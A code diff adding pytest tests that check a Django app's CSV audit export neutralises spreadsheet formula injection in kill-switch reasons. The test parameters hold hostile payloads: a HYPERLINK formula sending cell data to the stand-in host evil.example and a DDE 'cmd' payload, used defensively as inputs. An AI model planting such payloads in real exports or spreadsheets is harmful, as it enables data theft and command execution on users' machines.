@@ -166,6 +166,35 @@ def test_export_csv__streams_the_filter_and_records_itself(client, demo) -> None
     assert export.actor_id == auditor.pk and export.after == {"format": "csv", "filters": {"flag": str(flag.pk)}}
 
 
+@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+                                    "-2+3", "@SUM(1+1)"])
+def test_export_csv__kill_switch_reason_that_looks_like_a_formula__written_as_text(client, demo, reason) -> None:
+    # Given an operator flipped a kill switch with a reason a spreadsheet would run
+    from django.contrib.auth import get_user_model
+
+    from flags.models import Targeting
+    from rollouts import services as rollout_services
+
+    targeting = Targeting.objects.get(flag__project=demo, flag__key=PROFILE, environment__key="production")
+    rollout_services.killswitch_flip(targeting=targeting, reason=reason,
+                                     actor=get_user_model().objects.get(username="operator"))
+    # When an auditor exports the trail as CSV
+    _login(client, "auditor")
+    response = client.get("/audit/export.csv?action=killswitch.flipped")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    # Then the reason reads as text: prefixed with an apostrophe, otherwise intact
+    assert [row["reason"] for row in rows] == ["'" + reason]
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+
+
+@pytest.mark.parametrize(("value", "written"), [("\tcmd", "'\tcmd"), ("\r=1", "'\r=1"), ("a=b", "a=b"),
+                                               ("", ""), (42, 42), (None, None)])
+def test_csv_cell__formula_starts_neutralised__other_values_unchanged(value, written) -> None:
+    from flags.audit_views import csv_cell
+
+    assert csv_cell(value) == written
+
+
 def test_export_jsonl__one_json_object_per_line(client, demo) -> None:
     _login(client, "auditor")
     response = client.get("/audit/export.jsonl?action=flag.created")
